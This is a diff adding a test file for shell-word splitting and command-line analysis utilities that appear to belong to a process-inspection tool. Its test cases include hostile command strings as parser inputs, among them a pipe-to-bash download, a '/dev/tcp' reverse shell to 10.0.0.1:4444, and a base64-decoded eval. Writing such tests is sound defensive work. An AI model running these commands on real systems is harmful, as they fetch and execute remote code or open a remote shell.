@@ -1,0 +1,96 @@
+import { describe, expect, test } from 'vitest';
+import { analyseCommand, interpreterOf } from '../../../shared/unix/command-analysis.ts';
+import { shellCommands, shellWords } from '../../../shared/unix/shell-words.ts';
+
+describe('shellWords', () => {
+  test.each([
+    [`a 'b c' "d e" f\\ g`, ['a', 'b c', 'd e', 'f g']],
+    ['a # comment', ['a']],
+    ['a#b', ['a#b']],
+    ['echo x > /tmp/y 2>&1 z', ['echo', 'x', 'z']],
+    [`"a \\"b\\" \\$c"`, ['a "b" $c']],
+    ['a\\\nb', ['ab']],
+    [`'unclosed`, ['unclosed']],
+    [`''`, ['']],
+  ])('%s', (text, words) => {
+    expect(shellWords(text)).toEqual(words);
+  });
+});
+
+describe('shellCommands', () => {
+  test.each([
+    ['curl -s http://x/y | bash', [['curl', '-s', 'http://x/y'], ['bash']]],
+    ['a && b || c; d & e', [['a'], ['b'], ['c'], ['d'], ['e']]],
+    ['X=1 Y=2 run it', [['run', 'it']]],
+    ['if [ -f x ]; then run; fi', [['[', '-f', 'x', ']'], ['run']]],
+    [
+      'eval $(echo aGk= | base64 -d)',
+      [
+        ['eval', '$(echo aGk= | base64 -d)'],
+        ['echo', 'aGk='],
+        ['base64', '-d'],
+      ],
+    ],
+    ['bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', [['bash', '-i']]],
+    ['echo "$(id)"', [['echo', '$(id)'], ['id']]],
+  ])('%s', (code, commands) => {
+    expect(shellCommands(code)).toEqual(commands);
+  });
+
+  test('hostile text ends in bounded time', () => {
+    for (const text of [
+      '$('.repeat(50_000),
+      '`'.repeat(99_999),
+      '"$('.repeat(30_000),
+      '('.repeat(1e6),
+      '\\'.repeat(1e6),
+    ]) {
+      const start = performance.now();
+      shellCommands(text);
+      expect(performance.now() - start).toBeLessThan(3_000);
+    }
+  });
+});
+
+describe('analyseCommand', () => {
+  test.each([
+    [['/usr/sbin/sshd', '-D'], ['/usr/sbin/sshd'], [], []],
+    [['/bin/sh', '-c', 'curl x | sh'], ['/bin/sh', 'curl', 'sh'], [], ['curl x | sh']],
+    [['/bin/bash', '-lc', '/opt/run.sh'], ['/bin/bash', '/opt/run.sh'], [], ['/opt/run.sh']],
+    [
+      ['/usr/bin/env', 'A=1', 'nohup', 'python3', '/opt/x.py'],
+      ['/usr/bin/env', 'nohup', 'python3'],
+      ['/opt/x.py'],
+      [],
+    ],
+    [['python3.11', '-u', '-c', 'import os'], ['python3.11'], [], ['import os']],
+    [['perl', '-MIO::Socket', '-e', 'x', '-e', 'y'], ['perl'], [], ['x', 'y']],
+    [['timeout', '-s', 'KILL', '5', '/x'], ['timeout', '/x'], [], []],
+    [['java', '-Xmx1g', '-cp', 'a.jar', 'Main'], ['java'], [], []],
+    [['java', '-jar', '/opt/a.jar'], ['java'], ['/opt/a.jar'], []],
+    [['su', '-', 'alice', '-c', 'run'], ['su', 'run'], [], ['run']],
+    [['sudo', '-u', 'bob', 'VAR=1', '/x', 'y'], ['sudo', '/x'], [], []],
+    [['start-stop-daemon', '--start', '--exec', '/x', '--', '-d'], ['start-stop-daemon', '/x'], [], []],
+    [['osascript', '-e', 'do shell script "id"'], ['osascript'], [], ['do shell script "id"']],
+    [['sh', '-x', '/etc/init.d/y', 'start'], ['sh'], ['/etc/init.d/y'], []],
+    [['env', '-S', 'python3 /a.py'], ['env', 'python3'], ['/a.py'], []],
+    [['systemd-run', '-p', 'User=x', '/y'], ['systemd-run', '/y'], [], []],
+  ] as const)('%j', (argv, programs, scripts, code) => {
+    const found = analyseCommand(argv);
+    expect(found.programs).toEqual(programs);
+    expect(found.scripts).toEqual(scripts);
+    expect(found.inlineCode.map((one) => one.code)).toEqual(code);
+  });
+
+  test('commands within commands are followed to a bound', () => {
+    const argv = Array.from({ length: 500 }, () => 'env');
+    expect(analyseCommand(argv).programs.length).toBeLessThanOrEqual(64);
+  });
+
+  test('interpreters by name', () => {
+    expect(interpreterOf('/usr/bin/python3.11')).toBe('python');
+    expect(interpreterOf('/bin/dash')).toBe('sh');
+    expect(interpreterOf('nodejs')).toBe('node');
+    expect(interpreterOf('/usr/sbin/nginx')).toBeNull();
+  });
+});
